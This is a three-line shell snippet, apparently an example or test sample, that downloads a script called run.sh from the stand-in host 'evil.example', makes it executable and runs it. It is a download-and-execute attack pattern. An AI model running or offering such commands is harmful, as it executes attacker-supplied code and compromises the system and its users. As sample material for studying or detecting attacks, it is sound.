wget -O run.sh http://evil.example/run.sh
chmod +x run.sh
./run.sh
